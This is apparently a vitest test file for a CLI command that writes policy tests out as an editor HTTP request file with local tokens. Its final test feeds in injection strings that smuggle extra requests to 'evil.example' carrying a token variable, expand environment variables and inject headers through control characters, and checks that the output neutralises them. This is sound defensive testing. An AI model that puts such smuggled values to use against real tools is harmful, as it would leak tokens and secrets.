import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { parse } from "yaml";
import { requests } from "../../cli/commands/try/requests.ts";
import { FIRST_LINE, printHttpFile, type TriedRequest } from "../../cli/requests/http-file.ts";
import { type Running, runStack, send } from "../end-to-end/running.ts";
import { samplePolicies } from "../end-to-end/target.ts";
import { runVerb, sampleWith } from "./run-verb.ts";

/** A request as an HTTP client of an editor sends it. */
interface Parsed {
  readonly title: string;
  readonly comments: readonly string[];
  readonly method: string;
  readonly url: string;
  readonly headers: Readonly<Record<string, string>>;
}

/**
 * Parses a file as the HTTP clients of editors do: variables, requests after `###`, comments, and headers until an empty
 * line, after which a body would begin.
 */
function parseHttpFile(text: string): Parsed[] {
  const [head = "", ...blocks] = text.split(/^###(?= )/m);
  const variables = new Map(
    [...head.matchAll(/^@(\w+) *= *(.*)$/gm)].map(([, name = "", value = ""]) => [name, value]),
  );
  const fill = (line: string): string =>
    line.replace(/\{\{(.*?)\}\}/g, (_, name: string) => {
      const value = variables.get(name.trim());
      if (value === undefined) throw new Error(`There is no variable ${name}`);
      return value;
    });
  return blocks.map((block) => {
    const [title = "", ...lines] = block.split("\n");
    const start = lines.findIndex((line) => line !== "" && !line.startsWith("#"));
    const [, method = "", url = ""] = /^([A-Z]+) (\S+)$/.exec(fill(lines[start] ?? "")) ?? [];
    const end = lines.indexOf("", start);
    const body = lines.slice(end).filter((line) => line !== "" && !line.startsWith("#"));
    if (body.length > 0) throw new Error(`The request has a body: ${body.join("\n")}`);
    const headers = lines.slice(start + 1, end).map((line) =>
      fill(line)
        .split(/: (.*)/s)
        .slice(0, 2),
    );
    return {
      title: title.trim(),
      comments: lines.slice(0, start),
      method,
      url,
      headers: Object.fromEntries(headers),
    };
  });
}

/** The requests of the sample's policy tests, with the status that each must get. */
function sampleTests(): (readonly [request: string, status: number])[] {
  const tests = parse(readFileSync("policies/tests/access.yaml", "utf8")) as {
    readonly can?: readonly string[];
    readonly cannot?: readonly string[];
  }[];
  return tests.flatMap(({ can = [], cannot = [] }) => [
    ...can.map((request) => [request, 200] as const),
    ...cannot.map((request) => [request, 403] as const),
  ]);
}

let running: Running;
let port: string;
const folder = mkdtempSync(join(tmpdir(), "portcullis-requests-"));
const file = join(folder, "try.http");
const write = (...flags: string[]) => runVerb(requests, "--out", file, "--port", port, ...flags);

beforeAll(async () => {
  running = await runStack({ policies: [samplePolicies()], cache: "auto" });
  ({ port } = new URL(running.stack.origin));
});
afterAll(async () => {
  await running.stack.close();
  rmSync(folder, { recursive: true });
});

describe("npx portcullis requests", () => {
  it("writes each policy test as a request that gets the expected status and reason from the local stack", async () => {
    const { status, stdout } = await write();
    expect([status, stdout]).toEqual([
      0,
      expect.stringMatching(/try\.http has \d+ requests with \d+ tokens\n$/),
    ]);
    const parsed = parseHttpFile(readFileSync(file, "utf8"));
    const { origin } = running.stack;
    const received = [];
    for (const { method, url, headers, comments } of parsed) {
      expect(url.startsWith(origin)).toBe(true);
      const path = url.slice(origin.length);
      const response = await send(running, { method, path, headers });
      const reason = (response.body["error"] as { reason?: string } | undefined)?.reason;
      expect(comments[0]).toContain(
        `# expected: ${response.status}${reason === undefined ? "" : ` ${reason}`} (`,
      );
      received.push([`${method} ${path.split("?", 1)[0]}`, response.status] as const);
    }
    expect(received).toEqual(sampleTests());
  });

  it("says when the tokens expire and how to renew them, and overwrites its own file", async () => {
    await write();
    const before = readFileSync(file, "utf8");
    expect(before).toMatch(
      /^# The tokens are of the local stack and expire at \d{4}-\S+Z\. To renew them, run the command again\.$/m,
    );
    expect((await write()).status).toBe(0);
    expect(readFileSync(file, "utf8")).not.toBe(before);
  });

  it("takes the host from --url, and does not overwrite a file of somebody else", async () => {
    await write("--url", "http://localhost:9999/");
    expect(parseHttpFile(readFileSync(file, "utf8"))[0]?.url).toMatch(/^http:\/\/localhost:9999\//);
    await expect(write("--url", "localhost")).rejects.toThrow("--url: expected a URL");
    writeFileSync(file, "GET http://localhost\n");
    await expect(write()).rejects.toThrow("is not a file of this command");
    expect(readFileSync(file, "utf8")).toBe("GET http://localhost\n");
    rmSync(file);
  });

  it("writes nothing if a policy test fails, or no stack listens", async () => {
    const broken = sampleWith({
      "tests/access.yaml": "- { as: { tenant: acme, roles: [viewer] }, can: [POST /documents] }\n",
    });
    expect(await write("--policies", broken)).toMatchObject({
      status: 1,
      stderr: expect.stringContaining("1 policy test failed: correct them first"),
    });
    expect(await runVerb(requests, "--out", file, "--port", "1")).toMatchObject({
      status: 1,
      stderr: expect.stringContaining("No stack listens on http://127.0.0.1:1"),
    });
    expect(() => readFileSync(file)).toThrow("ENOENT");
  });

  it("leaves out callers for whom no token of the local stack is decided like the test, with the reason", async () => {
    const own = sampleWith({
      "issuers.yaml":
        "main: { preset: generic, tenants: '*', subjects: own }\nelsewhere: { preset: generic, tenants: '*' }\n",
      "clients.yaml": "default: { ceiling: [ANY /**, documents.purge] }\n",
      "tenants/acme.yaml": "plan: enterprise\n",
      "tests/access.yaml":
        "- { as: { tenant: acme, roles: [viewer], issuer: elsewhere }, can: [GET /documents/1] }\n- { as: { tenant: acme, roles: [viewer] }, can: [GET /documents/1, GET /health] }\n",
    });
    const { stdout } = await write("--policies", own);
    expect(stdout).toContain("has 2 requests with 1 token; 1 left out, each with the reason");
    const text = readFileSync(file, "utf8");
    expect(text).toContain("# Left out: acme viewer can GET /documents/1: no token of the local issuers");
    expect(parseHttpFile(text).map(({ headers }) => Object.keys(headers))).toEqual([["Authorization"], []]);
    rmSync(file);
  });
});

it("mints no token of an issuer that is a real identity provider", async () => {
  const settings = { url: "https://login.example.com", audiences: ["https://api.example.com"] };
  const trusting = await runStack({
    policies: [samplePolicies()],
    cache: "auto",
    trust: new Map([["main", { settings, jwks: { keys: [] } }]]),
  });
  try {
    const { origin } = trusting.stack;
    const own = join(folder, "trusting.http");
    expect((await runVerb(requests, "--out", own, "--port", new URL(origin).port)).status).toBe(0);
    const tokens = [...readFileSync(own, "utf8").matchAll(/^@token_\d+ = (.*)$/gm)].map(
      ([, token = ""]) => token,
    );
    expect(tokens.length).toBeGreaterThan(0);
    for (const token of tokens) {
      const { iss } = JSON.parse(Buffer.from(token.split(".")[1] ?? "", "base64url").toString()) as {
        iss: string;
      };
      expect(iss).toBe(`${origin}/_portcullis/issuers/acme-okta`);
    }
  } finally {
    await trusting.stack.close();
  }
});

it("contains no request, header or variable that a policy test brings along", () => {
  const hostile = [
    "/a\n\nGET http://evil.example/{{token_1}}",
    "/{{$processEnv HOME}}",
    "/x\u2028### GET http://evil.example",
    "/\u001b[31m\r\nX-Injected: 1",
    "/é/\ud800?q={{token_1}}#",
  ];
  const tried = hostile.map(
    (path, line): TriedRequest => ({
      test: {
        as: {
          tenant: path,
          roles: [path],
          subject: path,
          scopes: [],
          claims: {},
          issuer: undefined,
          clientId: undefined,
          delegate: undefined,
        },
        ...{ method: "GET", path, can: true, must: false, environments: null, elsewhere: false },
        at: { file: `tests/${path}.yaml`, line, column: 1 },
      },
      status: 200,
      reason: undefined,
      token: 0,
      required: { query: ["{{token_1}}"], header: [] },
    }),
  );
  const text = printHttpFile({
    host: "http://127.0.0.1:3000",
    expires: new Date(0),
    tokens: ["secret"],
    selector: { header: "X-Tenant" },
    requests: tried,
    leftOut: [[tried[0]?.test as TriedRequest["test"], "\nGET http://evil.example"]],
  });
  expect(text.startsWith(FIRST_LINE)).toBe(true);
  expect(text).not.toMatch(/[^\P{Cc}\n]|[\p{Zl}\p{Zp}\p{Cs}]/u);
  const parsed = parseHttpFile(text);
  expect(parsed).toHaveLength(hostile.length);
  for (const { url, headers } of parsed) {
    expect(new URL(url).host).toBe("127.0.0.1:3000");
    expect(url).not.toContain("secret");
    expect(Object.keys(headers)).toEqual(["Authorization", "X-Tenant"]);
  }
});
